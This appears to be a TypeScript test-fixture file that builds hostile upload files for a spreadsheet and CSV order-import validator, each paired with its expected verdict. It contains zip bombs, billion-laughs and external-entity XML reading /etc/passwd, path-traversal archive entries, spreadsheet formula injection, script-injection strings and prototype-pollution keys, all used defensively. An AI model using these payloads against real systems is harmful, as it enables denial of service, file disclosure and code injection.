import { constants, deflateRawSync } from 'node:zlib'

import { zipSync } from 'fflate'

import { escapeXml } from '../../tiktokFixtures.ts'
import { book, bookParts, pack, sheetXml, type Cell, type Sheet } from '../book.ts'
import { encode } from '../encode.ts'
import { concat, rawZip, type RawEntry } from '../rawZip.ts'
import { raw } from '../text.ts'
import { file, large, type CorpusFile, type Expectation } from '../types.ts'

const head = ['Order ID', 'SKU', 'Quantity', 'Order Date']
const orders: Sheet = { name: 'Orders', rows: [head, ['A-1', 'S-1', 1, '2026-10-14'], ['A-2', 'S-2', 2, '2026-10-15']] }
const refused = (code: string, ...others: string[]): Expectation => ({ verdict: 'REJECT', kind: null, rowsOk: 0, anyFinding: [code, ...others] })
const ok: Expectation = { verdict: 'ACCEPT', kind: 'order-lines', headerRow: 1, rowsOk: 2, totals: { lines: 2, units: 3 } }
const entries = (change: (entry: RawEntry) => RawEntry | readonly RawEntry[] = (entry) => entry) => Object.entries(bookParts([orders])).flatMap(([name, data]) => change({ name, data }))
const onSheet = (change: Partial<RawEntry>) => rawZip(entries((entry) => (entry.name.endsWith('sheet1.xml') ? { ...entry, ...change } : entry)))
const compound = (streams: string) => Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...new Array<number>(1016).fill(0), ...encode(streams, 'utf-16le')])
const withPart = (path: string, text: string) => book([orders], { extra: { [path]: text } })
const texts = (rows: readonly (readonly string[])[]) => raw(`${head.join(',')}\n${rows.map((cells) => cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')).join('\n')}\n`)
const csv: Expectation = { ...ok, encoding: 'utf-8', delimiter: ',' }
const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${[1, 2, 3, 4, 5, 6, 7, 8, 9].map((n) => `<!ENTITY lol${n} "${`&lol${n === 1 ? '' : n - 1};`.repeat(10)}">`).join('')}]>`
const quine = (levels: number): Uint8Array => (levels === 0 ? pack(bookParts([orders])) : zipSync({ 'inner.zip': quine(levels - 1) }, { mtime: new Date(1980, 0, 1) }))
const xmlStart = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'

export const hostileFiles: readonly CorpusFile[] = [
  file('refused/empty.csv', () => new Uint8Array(0), refused('fileEmpty')),
  file('refused/empty.xlsx', () => new Uint8Array(0), refused('fileEmpty')),
  file('refused/whitespace.csv', () => raw(' \r\n\t\r\n  \n'), refused('fileEmpty')),
  file('refused/mark-only.csv', () => raw('\ufeff'), refused('fileEmpty')),
  file('refused/letter.txt', () => raw('Dear all,\n\nplease find the figures, as agreed, in the annex.\nWe had a good month, and hope for another.\n\nKind regards,\nthe team\n'), refused('tableMissing')),
  file('refused/json.csv', () => raw('{"orders":[{"id":1,"sku":"A"},{"id":2,"sku":"B"}]}\n'), refused('tableMissing')),
  file('refused/picture.csv', () => Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 73, 72, 68, 82, 0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0]), refused('fileIsImage')),
  file('refused/photo.xlsx', () => Uint8Array.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 0, 0, 1, 0, 1, 0, 0]), refused('fileIsImage')),
  file('refused/report.pdf', () => raw('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n', {}), refused('fileIsPdf')),
  file('refused/orders.csv.gz', () => Uint8Array.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 0x4b, 0x4c, 0x4a, 6, 0, 0xc2, 0x41, 0x24, 0x35, 3, 0, 0, 0]), refused('fileIsArchive')),
  file('refused/orders.rar', () => Uint8Array.from([0x52, 0x61, 0x72, 0x21, 0x1a, 7, 1, 0, 0x33, 0x92, 0xb5, 0xe5]), refused('fileIsArchive')),
  file('refused/orders.7z', () => Uint8Array.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4, 0, 0, 0, 0]), refused('fileIsArchive')),
  file('refused/old.xls', () => compound('Workbook'), refused('workbookLegacy')),
  file('refused/password.xlsx', () => compound('EncryptionInfo EncryptedPackage'), refused('workbookEncrypted')),
  file('refused/page.xls', () => raw('<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><meta charset="utf-8"></head><body><table><tr><td>Order ID</td><td>SKU</td></tr></table></body></html>'), refused('fileIsHtml')),
  file('refused/spreadsheet-2003.xls', () => raw('<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"></Workbook>'), refused('fileIsHtml', 'workbookLegacy')),
  file('refused/binary.xlsb', () => rawZip([{ name: '[Content_Types].xml', data: raw('<Types/>') }, { name: 'xl/workbook.bin', data: Uint8Array.from([131, 1, 0]) }]), refused('workbookBinary')),
  file('refused/open-document.ods', () => rawZip([{ name: 'mimetype', data: raw('application/vnd.oasis.opendocument.spreadsheet'), isStored: true }, { name: 'content.xml', data: raw('<office:document-content/>') }]), refused('workbookOpenDocument')),
  file('refused/letter.docx', () => rawZip([{ name: '[Content_Types].xml', data: raw('<Types/>') }, { name: 'word/document.xml', data: raw('<w:document/>') }]), refused('archiveNoWorkbook')),
  file('refused/random.csv', () => Uint8Array.from({ length: 4000 }, (_, i) => (i * 37 + (i >> 3) * 11 + (i % 251)) % 256), refused('fileNotText')),
  file('refused/executable.csv', () => Uint8Array.from([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff, 0, 0, 0xb8, ...new Array<number>(200).fill(0)]), refused('fileNotText')),

  file('archives/truncated.xlsx', () => book([orders]).slice(0, 900), refused('workbookTruncated')),
  file('archives/no-end-record.xlsx', () => rawZip(entries(), { isWithoutEnd: true }), refused('workbookTruncated')),
  file('archives/bad-checksum.xlsx', () => onSheet({ crc: 0x12345678 }), refused('workbookDamaged')),
  file('archives/encrypted-entry.xlsx', () => onSheet({ flags: 1 }), refused('workbookEncrypted')),
  file('archives/duplicate-names.xlsx', () => rawZip(entries((entry) => (entry.name.endsWith('sheet1.xml') ? [entry, { ...entry, data: raw(sheetXml({ name: 'x', rows: [head, ['A-9', 'S-9', 900, '2026-10-14']] })) }] : entry))), refused('workbookDamaged')),
  file('archives/names-differ-by-case.xlsx', () => rawZip(entries((entry) => (entry.name.endsWith('sheet1.xml') ? [entry, { ...entry, name: 'xl/worksheets/SHEET1.xml' }] : entry))), refused('workbookDamaged')),
  file('archives/two-names-for-one-entry.xlsx', () => onSheet({ localName: 'xl/worksheets/sheet9.xml' }), refused('workbookDamaged')),
  file('archives/overlapping-entries.xlsx', () => rawZip([...entries(), { name: 'xl/worksheets/sheet2.xml', data: raw(sheetXml(orders)), sharesDataOf: 5, localName: 'x' }]), refused('workbookDamaged')),
  file('archives/unpacks-to-more-than-stated.xlsx', () => onSheet({ statedBytes: 100 }), refused('workbookDamaged')),
  file('archives/unknown-compression.xlsx', () => onSheet({ method: 12 }), refused('workbookDamaged')),
  file('archives/broken-deflate.xlsx', () => onSheet({ packed: Uint8Array.from([0xff, 0xff, 0xff, 0xff, 0, 1, 2, 3]) }), refused('workbookDamaged')),
  file('archives/paths-upward.xlsx', () => rawZip([...entries(), { name: '../../etc/passwd', data: raw('root:x:0:0') }, { name: 'C:\\Windows\\system.ini', data: raw('x') }]), { verdict: ['ACCEPT', 'WARN', 'REJECT'] }),
  file('archives/nested.zip', () => quine(3), refused('archiveNoWorkbook')),
  file('archives/comment-at-the-end.xlsx', () => rawZip(entries(), { comment: raw('PK a harmless comment') }), { ...ok, sheet: 'Orders' }),
  file('archives/stored.xlsx', () => rawZip(entries((entry) => ({ ...entry, isStored: true }))), { ...ok, sheet: 'Orders' }),
  file('archives/garbage-in-front.xlsx', () => concat([raw('garbage'), book([orders])]), { verdict: 'REJECT', rowsOk: 0 }),
  file('archives/doctype.xlsx', () => withPart('xl/worksheets/sheet1.xml', `<!DOCTYPE x>${sheetXml(orders).replace(/^<\?xml[^>]*>/, '')}`), refused('workbookDoctype')),
  file('archives/billion-laughs.xlsx', () => withPart('xl/sharedStrings.xml', `${laughs}<sst><si><t>&lol9;</t></si></sst>`), refused('workbookDoctype')),
  file('archives/external-entity.xlsx', () => withPart('xl/workbook.xml', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><workbook><sheets><sheet name="&e;"/></sheets></workbook>'), refused('workbookDoctype')),
  large('archives/bomb-4-gb.xlsx', () => bomb(4000), refused('workbookTooLarge', 'workbookDamaged')),
  large('archives/bomb-of-40-sheets.xlsx', () => rawZip([...entries(), ...Array.from({ length: 40 }, (_, i) => spaces(`xl/worksheets/sheet${i + 2}.xml`, 50))]), { verdict: ['ACCEPT', 'REJECT'] }),
  file('archives/says-4-gb.xlsx', () => onSheet({ statedBytes: 0xfffffff0 }), refused('workbookTooLarge', 'workbookDamaged')),
  file('sheets/far-cell.xlsx', () => book([{ name: 'Orders', xml: `${xmlStart}${sheetBody()}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>` }]), { verdict: ['ACCEPT', 'WARN', 'REJECT'] }),
  file('sheets/cell-beyond-the-sheet.xlsx', () => book([{ name: 'Orders', xml: `${xmlStart}${sheetBody()}<row r="99999999"><c r="ZZZZZ99999999"><v>1</v></c></row></sheetData></worksheet>` }]), { verdict: ['ACCEPT', 'WARN', 'REJECT'] }),
  file('sheets/broken-xml.xlsx', () => withPart('xl/worksheets/sheet1.xml', `${xmlStart}${sheetBody()}<row r="4"><c r="A4" t="inlineStr"><is><t>A-3`), { verdict: ['ACCEPT', 'WARN', 'REJECT'] }),
  file('sheets/strings-out-of-range.xlsx', () => book([{ name: 'Orders', xml: `${xmlStart}${sheetBody()}<row r="4"><c r="A4" t="s"><v>99</v></c><c r="B4" t="s"><v>-1</v></c><c r="C4" t="s"><v>__proto__</v></c></row></sheetData></worksheet>` }]), { ...ok, verdict: ['ACCEPT', 'WARN'], sheet: 'Orders', skipped: { blank: 1 } }),
  file('sheets/no-rows.xlsx', () => book([{ name: 'Empty', rows: [] }]), refused('tableMissing', 'fileEmpty')),
  file('sheets/no-sheets.xlsx', () => book([]), refused('archiveNoWorkbook')),
  file('sheets/macro-and-links.xlsx', () => book([orders], { extra: { 'xl/vbaProject.bin': 'macro', 'xl/externalLinks/externalLink1.xml': '<externalLink/>', 'customXml/item1.xml': '<x/>' } }), { ...ok, sheet: 'Orders' }),

  file('cells/prototype-headers.csv', () => raw('__proto__,constructor,toString,Order ID,SKU,Quantity,Order Date,hasOwnProperty\nx,y,z,A-1,S-1,1,2026-10-14,q\nx,y,z,A-2,S-2,2,2026-10-15,q\n'), csv),
  file('cells/prototype-skus.csv', () => texts([['A-1', '__proto__', '1', '2026-10-14'], ['A-2', 'constructor', '2', '2026-10-15']]), { ...csv, totals: { lines: 2, units: 3, skus: 2 }, rows: { 2: { sku: '__proto__' }, 3: { sku: 'constructor' } } }),
  file('cells/prototype-order-ids.csv', () => texts([['__proto__', 'S-1', '1', '2026-10-14'], ['hasOwnProperty', 'S-2', '2', '2026-10-15']]), { ...csv, totals: { orders: 2, units: 3 } }),
  file('cells/prototype-status.csv', () => raw('Order ID,SKU,Quantity,Order Date,Status,Warehouse,Currency\nA-1,S-1,1,2026-10-14,__proto__,constructor,__proto__\nA-2,S-2,2,2026-10-15,constructor,__proto__,toString\n'), { ...csv, verdict: 'WARN', anyFinding: ['statusUnknown'] }),
  file('cells/only-prototype-headers.csv', () => raw('__proto__,constructor\n1,2\n3,4\n'), { verdict: 'ASK', kind: null, rowsOk: 0, rowsBad: 2, questions: ['columns'] }),
  file('cells/formulas.csv', () => texts([["=HYPERLINK(\"http://example.com/?\"&A1,\"x\")", "=cmd|'/C calc'!A0", '1', '2026-10-14'], ['A-2', '@SUM(1+1)*cmd', '2', '2026-10-15']]), { ...csv, rows: { 2: { sku: "=cmd|'/C calc'!A0" }, 3: { sku: '@SUM(1+1)*cmd' } } }),
  file('cells/markup.csv', () => raw('Order ID,SKU,Quantity,Order Date,Product Name\n<script>alert(1)</script>,S-1,1,2026-10-14,<img src=x onerror=alert(1)>\nA-2,S-2,2,2026-10-15,"<a href=""javascript:alert(1)"">x</a>"\n'), { ...csv, rows: { 2: { orderId: '<script>alert(1)</script>', productName: '<img src=x onerror=alert(1)>' } } }),
  file('cells/bidi-and-zero-width.csv', () => texts([['A-1', '\u202eS-1\u202c', '1', '2026-10-14'], ['A-2', 'S\u200b-\u200d2', '2', '2026-10-15']]), { ...csv, verdict: ['ACCEPT', 'WARN'], totals: { skus: 2, units: 3 } }),
  file('cells/path-names.csv', () => texts([['../../etc/passwd', 'C:\\Windows', '1', '2026-10-14'], ['file:///etc/shadow', '\\\\server\\share', '2', '2026-10-15']]), csv),
  file('cells/control-characters.csv', () => texts([['A-1', 'S\u0007-\u001b[31m1', '1', '2026-10-14'], ['A-2', 'S-2', '2', '2026-10-15']]), { ...csv, verdict: ['ACCEPT', 'WARN'] }),
  file('cells/long-ids.csv', () => texts([['A'.repeat(5000), 'S-1', '1', '2026-10-14'], ['A-2', 'S'.repeat(200), '2', '2026-10-15'], ['A-3', 'S-3', '3', '2026-10-16']]), { ...csv, verdict: 'WARN', rowsOk: 1, rowsBad: 2, totals: { lines: 1, units: 3 }, findings: { idTooLong: [2, 3] } }),
  file('cells/slow-patterns.csv', () => texts([['A-1', 'S-1', `${'1,'.repeat(5000)}x`, '2026-10-14'], ['A-2', 'S-2', '2', `${'1'.repeat(20_000)}!`], ['A-3', 'S-3', '3', '2026-10-16']]), { ...csv, verdict: 'WARN', rowsOk: 1, rowsBad: 2, totals: { units: 3 }, findings: { notWholeNumber: [2], timeUnreadable: [3] } }),
  file('cells/a-lone-surrogate.csv', () => raw('Order ID,SKU,Quantity,Order Date\nA-1,S-1,1,2026-10-14\nA-2,S-2\ud800,2,2026-10-15\n'), { ...csv, verdict: ['ACCEPT', 'WARN'] }),
  large('cells/half-a-million-spaces.csv', () => raw(`Order ID,SKU,Quantity,Order Date\nA-1,S-1,1,2026-10-14\nA-2,S-2${' '.repeat(500_000)}x,2,2026-10-15\nA-3,S-3,3${'\u00a0'.repeat(500_000)},2026-10-15\n`), { verdict: ['ACCEPT', 'WARN'], kind: 'order-lines' }),
  large('archives/bomb-300-mb.xlsx', () => bomb(300), refused('workbookTooLarge', 'workbookDamaged')),
  large('sheets/far-cell-in-every-row.xlsx', () => book([{ name: 'Orders', xml: `${xmlStart}${sheetBody()}${Array.from({ length: 20_000 }, (_, i) => `<row r="${i + 4}"><c r="XFD${i + 4}"><v>1</v></c></row>`).join('')}</sheetData></worksheet>` }]), { verdict: ['WARN', 'REJECT', 'ACCEPT'] }),
]

function sheetBody(): string {
  return (orders.rows as readonly Cell[][]).map((cells, i) => `<row r="${i + 1}">${cells.map((cell, column) => `<c r="${'ABCD'[column]}${i + 1}" t="inlineStr"><is><t>${escapeXml(String(cell))}</t></is></c>`).join('')}</row>`).join('')
}

/** An entry of nothing but spaces that packs a thousand to one: the same compressed megabyte again and again. */
function spaces(name: string, megabytes: number): RawEntry {
  const piece = deflateRawSync(raw(' '.repeat(1_000_000)), { finishFlush: constants.Z_SYNC_FLUSH })
  const packed = concat([...Array.from({ length: megabytes }, () => piece), Uint8Array.from([3, 0])])
  return { name, data: new Uint8Array(0), packed, crc: 0, statedBytes: megabytes * 1_000_000 }
}

function bomb(megabytes: number): Uint8Array {
  return rawZip(entries((entry) => (entry.name.endsWith('sheet1.xml') ? spaces(entry.name, megabytes) : entry)))
}
